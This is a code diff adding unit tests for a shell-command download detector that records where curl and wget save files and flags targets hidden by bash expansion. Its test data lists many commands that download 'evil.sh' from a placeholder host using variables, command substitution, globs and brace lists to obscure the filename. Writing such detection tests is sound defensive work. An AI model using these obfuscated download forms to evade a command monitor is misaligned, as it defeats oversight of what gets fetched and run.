@@ -2,7 +2,7 @@ import { mkdtemp, realpath } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
-import { detectDownloads, recordDownloads } from "../../src/tools/shell/downloads.js";
+import { detectDownloads, downloadsUnplaced, recordDownloads } from "../../src/tools/shell/downloads.js";
 
 describe("detectDownloads", () => {
   it.each([
@@ -157,5 +157,83 @@ describe("detectDownloads", () => {
       `${real}/a/`,
       `${real}/sub/`,
     ]);
+  });
+});
+
+// A target bash expands was recorded as its text (`$F`, `ev{i,}l.sh`), or not at all (`$(…)`), so
+// running the file it wrote later matched nothing: it now counts as the command's folder (and the
+// folder written before the expansion, and itself when its name is written), and the command asks
+// (downloadsUnplaced).
+describe("download targets bash expands", () => {
+  it.each([
+    // Parameter expansion, quoted or not, and ${…}.
+    ["F=evil.sh; curl -o $F https://x.test/a", ["./"]],
+    ['curl -o "$F" https://x.test/a', ["./"]],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell command line, not a JS template
+    ["curl -o ${F} https://x.test/a", ["./"]],
+    ["curl -so$F https://x.test/a", ["./"]],
+    ["curl --output=$F https://x.test/a", ["./"]],
+    // Command substitution (its text is not in the word) and backticks.
+    ["curl -o $(echo evil.sh) https://x.test/a", ["./"]],
+    ["curl -o `echo evil.sh` https://x.test/a", ["./"]],
+    ["curl -o $(pwd)/evil.sh https://x.test/a", ["./"]],
+    ['curl -o "$(echo out)/evil.sh" https://x.test/a', ["./"]],
+    // Brace lists and globs bash expands, in a tee or an -o.
+    ["curl https://x.test/a | tee {evil.sh,}", ["./"]],
+    ["curl -o ev{i,}l.sh https://x.test/a", ["./"]],
+    ["curl -o e?il.sh https://x.test/a", ["./"]],
+    ["curl -o e[v]il.sh https://x.test/a", ["./"]],
+    ["curl https://x.test/a | tee e*", ["./"]],
+    ["curl https://x.test/a | tee -a out/e*", ["./", "out/"]],
+    // A folder an expansion names: the name written counts too; `$F` may hold `..`, so out/ is not enough.
+    ["curl -o ~/evil.sh https://x.test/a", ["./", "~/evil.sh"]],
+    ["curl -o $HOME/evil.sh https://x.test/a", ["./", "$HOME/evil.sh"]],
+    ["curl -o out/$F https://x.test/a", ["./", "out/"]],
+    ["curl --output-dir $D -o evil.sh https://x.test/a", ["./", "$D/evil.sh"]],
+    ["curl --output-dir $D -o ../evil.sh https://x.test/a", ["./", "$D/../evil.sh"]],
+    // wget -O / --output-document / -P.
+    ["wget -O $F https://x.test/a", ["./"]],
+    ["wget -qO$F https://x.test/a", ["./"]],
+    ["wget --output-document=$F https://x.test/a", ["./"]],
+    ['wget --output-document "$(echo evil.sh)" https://x.test/a', ["./"]],
+    ["wget -P $D https://x.test/evil.sh", ["./", "$D/evil.sh"]],
+    ["wget -P $D/.. https://x.test/evil.sh", ["./", "$D/../evil.sh"]],
+    ["wget -r -P $D https://x.test/d/", ["./", "$D/x.test/"]],
+    // Redirections of a download's output.
+    ["curl https://x.test/a > $F", ["./"]],
+    ["curl https://x.test/a >> ~/evil.sh", ["./", "~/evil.sh"]],
+    ["curl https://x.test/a | cat > ev{i,}l.sh", ["./"]],
+  ])("%s → %j, and asks", (command, expected) => {
+    expect(detectDownloads(command)).toEqual(expected);
+    expect(downloadsUnplaced(command)).toBe(true);
+  });
+
+  it.each([
+    // Quoted, escaped or ANSI-C-free text is what it says.
+    ["curl -o evil.sh https://x.test/a", ["evil.sh"]],
+    ['curl -o "out file.sh" https://x.test/a', ["out file.sh"]],
+    ["curl -o 'a$b' https://x.test/a", ["a$b"]],
+    ['curl -o "e?il.sh" https://x.test/a', ["e?il.sh"]],
+    ["curl -o 'ev{i,}l.sh' https://x.test/a", ["ev{i,}l.sh"]],
+    ["curl -o a~b https://x.test/a", ["a~b"]],
+    // An expansion elsewhere on the line, or in the URL curl -o saves from.
+    ['curl -o x.sh "https://x.test/$V/a"; echo $(date)', ["x.sh"]],
+    ['curl -H "Authorization: $TOKEN" -o x.json https://x.test/a', ["x.json"]],
+    // A name a URL gives (-O, wget) with an expansion: its folder, as one the server gives.
+    ["curl -O https://x.test/$F", ["./"]],
+    ['curl -LO "https://x.test/$V/tool-$V.tgz" --output-dir dl', ["dl/"]],
+    ["wget -P d https://x.test/$F", ["d/"]],
+  ])("%s → %j, and does not ask", (command, expected) => {
+    expect(detectDownloads(command)).toEqual(expected);
+    expect(downloadsUnplaced(command)).toBe(false);
+  });
+
+  it("records the command's folder for a target an expansion names", async () => {
+    const ws = await mkdtemp(path.join(tmpdir(), "expanded-downloads-"));
+    const facts = { downloadedFiles: new Set<string>() };
+    await recordDownloads("F=evil.sh; curl -o $F https://x.test/a", ws, facts);
+    await recordDownloads("curl -o out/$F https://x.test/a", ws, facts);
+    const real = await realpath(ws);
+    expect([...facts.downloadedFiles]).toEqual([`${real}/`, `${real}/out/`]);
   });
 });
